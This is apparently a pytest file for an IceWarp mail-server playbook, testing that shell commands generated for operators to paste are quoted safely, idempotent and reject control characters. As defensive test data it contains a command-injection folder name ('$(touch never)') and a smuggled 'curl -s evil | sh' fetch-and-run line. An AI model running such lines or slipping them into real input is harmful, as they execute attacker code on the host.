"""The commands that a person pastes: run by a shell, in a folder of their own."""

import os
import re
import shlex
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import get_args

import pytest

from playbook.errors import BadInput
from playbook.hosts.host import IceWarpOverrides
from playbook.mail import actions
from playbook.mail.actions import (
    FolderRestored,
    FolderSetAside,
    MailAction,
    PasswordReset,
    SmtpStarted,
    SmtpStopped,
    SubmissionSet,
)
from playbook.mail.icewarp import manual
from playbook.mail.icewarp.acts import act_of
from playbook.mail.products import by_hand, evidence_by_hand
from playbook.mail.survey import Account, Role, Survey
from playbook.secret import PasswordShape
from tests.support.surveys import ACCOUNT, SURVEY

KNOWN = IceWarpOverrides()
ODD = "/srv/a b'c$(touch never);#"


def lines_of(action: MailAction, seen: Survey = SURVEY) -> tuple[str, ...]:
    lines: tuple[str, ...] = act_of(action).manual["linux"](action, seen, KNOWN)
    return lines


def typed(lines: tuple[str, ...], folder: Path) -> str:
    """What a shell makes of lines that are pasted, one after the other."""
    done = subprocess.run(
        ("sh",),
        input="\n".join(lines) + "\n",
        cwd=folder,
        env={"PATH": os.environ["PATH"]},
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    return done.stdout


@pytest.mark.parametrize("kind", get_args(actions.MailAction), ids=lambda each: each.__name__)
def test_every_line_is_one_that_a_shell_understands(kind: type[MailAction]) -> None:
    for line in (*by_hand(kind), *evidence_by_hand()):
        assert "\n" not in line
        subprocess.run(("sh", "-n", "-c", line), check=True, timeout=10)


@pytest.mark.parametrize(
    "action",
    [
        FolderSetAside(Role.OUTGOING, ODD, f"{ODD}.x", recreate=True),
        FolderSetAside(Role.OUTGOING, ODD, f"{ODD}.x", emptied=True),
        FolderRestored(Role.OUTGOING, ODD, f"{ODD}.x"),
        SubmissionSet(ODD, allowed=False),
        actions.EmptyFolderRemoved(Role.OUTGOING, ODD),
        actions.SettledMailRemoved(Role.OUTGOING, ODD, 1, ""),
        actions.MailReinjected(Role.INCOMING, ODD, ODD, 1, ""),
    ],
    ids=lambda each: type(each).__name__,
)
def test_a_name_is_one_argument_whatever_it_holds(action: MailAction) -> None:
    whole = [line for line in lines_of(action) if not line.startswith("#")]
    quoted = [shlex.quote(ODD), shlex.quote(f"{ODD}.x")]
    bare = " ".join(whole)
    for each in sorted(quoted, key=len, reverse=True):
        bare = bare.replace(each, "NAME")
    assert "touch never" not in bare


@pytest.mark.parametrize(
    "control", ["\n", "\r", "\x1b", "\x7f", "\x9b", "\u202e", "\udc9b", "\u2028"]
)
def test_a_name_with_a_control_character_makes_no_line(control: str) -> None:
    evil = f"/mail/_outgoing{control}curl -s evil | sh"
    with pytest.raises(BadInput):
        lines_of(FolderSetAside(Role.OUTGOING, evil, "/aside"))
    with pytest.raises(BadInput):
        manual.evidence(replace(SURVEY, logs=evil), KNOWN)


def fake_tool(folder: Path, status: int = 0) -> Survey:
    """A survey of a server whose programs write down how they were called."""
    for name in ("tool.sh", "icewarpd.sh"):
        program = folder / name
        fails = status if name == "tool.sh" else 0
        program.write_text(
            f'#!/bin/sh\necho {name} "$@" >>{shlex.quote(str(folder))}/calls\nexit {fails}\n'
        )
        program.chmod(0o755)
    product = replace(
        SURVEY.product,
        tool=str(folder / "tool.sh"),
        control=str(folder / "icewarpd.sh"),
        folder=str(folder),
    )
    return replace(SURVEY, product=product)


def calls(folder: Path) -> list[str]:
    path = folder / "calls"
    return path.read_text().splitlines() if path.exists() else []


def test_a_pasted_reset_sets_a_password_that_was_never_seen(tmp_path: Path) -> None:
    seen = fake_tool(tmp_path)
    action = PasswordReset(ACCOUNT, PasswordShape(length=24, digits=3, capitals=3, signs=2))
    for _ in range(2):
        typed(lines_of(action, seen), tmp_path)
    made = [line.split()[-1] for line in calls(tmp_path) if " u_password " in line]
    assert len(set(made)) == 2
    for each in made:
        assert re.fullmatch(r"AAAa111--[0-9a-f]{48}a", each)
        assert each not in " ".join(lines_of(action, seen))


@pytest.mark.parametrize(
    ("accounts", "closed", "watchdog", "expected"),
    [
        ((Account(ACCOUNT, ACCOUNT),), (), True, ["u_password", "--start smtp", "watchdog_smtp 1"]),
        ((Account(ACCOUNT, ACCOUNT),), (), False, ["u_password", "--start smtp"]),
        ((Account(ACCOUNT, ACCOUNT),), (ACCOUNT,), True, ["--start smtp", "watchdog_smtp 1"]),
        ((Account(ACCOUNT, ACCOUNT, directory="ad"),), (), False, ["u_smtp 0", "--start smtp"]),
        ((), (), False, ["account ACCOUNT u_password", "--start smtp"]),
        (
            (Account("a", "a@d.example"), Account("b", "b@d.example")),
            ("a@d.example",),
            False,
            ["b@d.example u_password", "--start smtp"],
        ),
    ],
)
def test_the_way_out_closes_what_is_open_before_it_starts(
    tmp_path: Path,
    accounts: tuple[Account, ...],
    closed: tuple[str, ...],
    *,
    watchdog: bool,
    expected: list[str],
) -> None:
    seen = replace(fake_tool(tmp_path), accounts=accounts)
    typed((manual.way_out(seen, frozenset(closed), watchdog=watchdog),), tmp_path)
    done = calls(tmp_path)
    assert len(done) == len(expected)
    assert all(part in line for part, line in zip(expected, done, strict=True))


def test_the_way_out_starts_nothing_where_an_account_cannot_be_closed(tmp_path: Path) -> None:
    seen = fake_tool(tmp_path, status=1)
    typed((manual.way_out(seen, frozenset(), watchdog=True),), tmp_path)
    assert [line.split()[0] for line in calls(tmp_path)] == ["tool.sh"]


def test_a_pasted_rename_and_its_way_back_may_be_pasted_twice(tmp_path: Path) -> None:
    queue, aside = tmp_path / "mail b" / "_outgoing", tmp_path / "mail b" / "_outgoing.x"
    (queue / "retry").mkdir(parents=True, mode=0o750)
    (queue / "retry" / "a.tmp").write_bytes(b"a")
    rename = FolderSetAside(Role.OUTGOING, str(queue), str(aside), recreate=True)
    for _ in range(2):
        typed(lines_of(rename), tmp_path)
        assert [each.name for each in queue.iterdir()] == []
        assert (aside / "retry" / "a.tmp").read_bytes() == b"a"
    (queue / "b.tmp").write_bytes(b"b")
    back = FolderRestored(Role.OUTGOING, str(queue), str(aside))
    for _ in range(2):
        typed(lines_of(back), tmp_path)
        assert (queue / "retry" / "a.tmp").read_bytes() == b"a"
        assert (queue / "b.tmp").read_bytes() == b"b"
        assert list(aside.rglob("*.tmp")) == []
    assert (queue / "retry").stat().st_mode & 0o777 == 0o750


def test_the_way_back_overwrites_nothing(tmp_path: Path) -> None:
    queue, aside = tmp_path / "queue", tmp_path / "aside"
    for folder, text in ((queue, b"new"), (aside, b"old")):
        folder.mkdir()
        (folder / "a.tmp").write_bytes(text)
    said = typed(lines_of(FolderRestored(Role.OUTGOING, str(queue), str(aside))), tmp_path)
    assert (queue / "a.tmp").read_bytes() == b"new"
    assert (aside / "a.tmp").read_bytes() == b"old"
    assert str(aside / "a.tmp") in said


@pytest.mark.parametrize("holder", ["20260101-000000-aaaa", "20260101-000000-bbbb"])
def test_what_is_kept_of_others_stays_when_one_is_forgotten(tmp_path: Path, holder: str) -> None:
    names = ("20260101-000000-aaaa", "20260101-000000-bbbb")
    for name in names:
        (tmp_path / "incidents" / name).mkdir(parents=True)
    (tmp_path / "lease").symlink_to(f"{holder} ada@desk 1 0badcafe")
    seen = replace(SURVEY, state_folder=str(tmp_path))
    typed(lines_of(actions.IncidentForgotten(names[0]), seen), tmp_path)
    assert [each.name for each in (tmp_path / "incidents").iterdir()] == [names[1]]
    assert (tmp_path / "lease").is_symlink() is (holder == names[1])


@pytest.mark.parametrize(
    ("action", "verb"),
    [
        (SmtpStopped(), "modify"),
        (SmtpStarted(watchdog=True), "modify"),
        (SubmissionSet(ACCOUNT, allowed=False), "modify"),
        (SubmissionSet(ACCOUNT, allowed=False), "display"),
    ],
)
def test_an_old_version_is_spoken_to_with_its_own_verbs(action: MailAction, verb: str) -> None:
    old = replace(SURVEY, product=replace(SURVEY.product, dialect="display"))
    lines = " ".join(lines_of(action, old))
    assert f"tool.sh {verb} " in lines
    assert "tool.sh set " not in lines
    assert "tool.sh get " not in lines
